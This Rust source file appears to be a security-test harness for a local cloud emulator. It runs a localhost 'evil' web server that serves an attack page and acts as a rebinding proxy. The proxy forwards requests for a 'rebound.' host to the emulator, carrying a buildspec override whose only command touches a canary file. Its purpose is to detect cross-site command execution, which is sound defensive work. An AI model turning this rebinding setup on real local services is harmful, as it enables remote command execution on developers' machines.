//! Somebody else's web server, and its page that tries all that a page can. It
//! is the browser's proxy at once, so that it has any name; one name of its own
//! it hands on to the local cloud, as a name server does that rebinds it.

use serde_json::json;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

const PAGE: &str = include_str!("attack.html");

/// What the page goes for.
#[derive(Clone, Debug)]
pub(crate) struct Target {
    endpoint: String,
    project: String,
    buildspec: String,
}

impl Target {
    /// The project of the local cloud at `endpoint`, and a file that would be
    /// there if a command ran.
    pub(crate) fn new(endpoint: &str, project: &str, canary: &Path) -> Self {
        let mut target =
            Self { endpoint: endpoint.to_owned(), project: project.to_owned(), buildspec: String::new() };
        target.buildspec = target.override_with(canary);
        target
    }

    /// A buildspec that makes `file`.
    pub(crate) fn override_with(&self, file: &Path) -> String {
        let command = format!("touch '{}'", file.display());
        json!({ "version": 0.2, "phases": { "build": { "commands": [command] } } }).to_string()
    }

    pub(crate) fn port(&self) -> &str {
        self.endpoint.rsplit(':').next().expect("a port")
    }

    fn page(&self) -> String {
        let target =
            json!({ "endpoint": self.endpoint, "project": self.project, "buildspec": self.buildspec });
        PAGE.replace("\"TARGET\"", &target.to_string())
    }
}

/// The server.
#[derive(Debug)]
pub(crate) struct Evil {
    address: String,
    forwarded: Arc<AtomicUsize>,
}

impl Evil {
    pub(crate) fn serve(target: &Target) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let address = listener.local_addr().expect("its number").to_string();
        let forwarded = Arc::new(AtomicUsize::new(0));
        let (page, cloud) = (target.page(), format!("127.0.0.1:{}", target.port()));
        let count = Arc::clone(&forwarded);
        std::thread::spawn(move || {
            for visitor in listener.incoming().map_while(Result::ok) {
                let (page, cloud, count) = (page.clone(), cloud.clone(), Arc::clone(&count));
                std::thread::spawn(move || {
                    // A browser that goes away is no failure.
                    let _ = answer(&visitor, &page, &cloud, &count);
                });
            }
        });
        Self { address, forwarded }
    }

    pub(crate) fn address(&self) -> &str {
        &self.address
    }

    /// How many requests for the rebound name were handed on.
    pub(crate) fn forwarded(&self) -> usize {
        self.forwarded.load(Ordering::SeqCst)
    }
}

/// One request: for the page, or for the rebound name, which then means the
/// local cloud.
fn answer(mut visitor: &TcpStream, page: &str, cloud: &str, forwarded: &AtomicUsize) -> std::io::Result<()> {
    let mut reader = BufReader::new(visitor);
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let (mut headers, mut length) = (String::new(), 0_u64);
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? <= 2 {
            break;
        }
        let name = line.split(':').next().unwrap_or_default().to_lowercase();
        if name == "content-length" {
            length = line.split(':').nth(1).and_then(|value| value.trim().parse().ok()).unwrap_or_default();
        }
        if !["connection", "proxy-connection"].contains(&name.as_str()) {
            headers.push_str(&line);
        }
    }
    let mut body = Vec::new();
    reader.take(length).read_to_end(&mut body)?;
    // METHOD http://host/path HTTP/1.1
    let url = first.split(' ').nth(1).unwrap_or_default().to_owned();
    let (authority, path) =
        url.strip_prefix("http://").and_then(|rest| rest.split_once('/')).unwrap_or_default();
    let rebound = authority.starts_with("rebound.") && path != "page";
    if !rebound {
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
        return write!(visitor, "{head}Content-Length: {}\r\n\r\n{page}", page.len());
    }
    let mut there = TcpStream::connect(cloud)?;
    there.set_read_timeout(Some(Duration::from_secs(20)))?;
    let first = first.replacen(&url, &format!("/{path}"), 1);
    write!(there, "{first}{headers}Connection: close\r\n\r\n")?;
    there.write_all(&body)?;
    forwarded.fetch_add(1, Ordering::SeqCst);
    std::io::copy(&mut there, &mut visitor)?;
    Ok(())
}
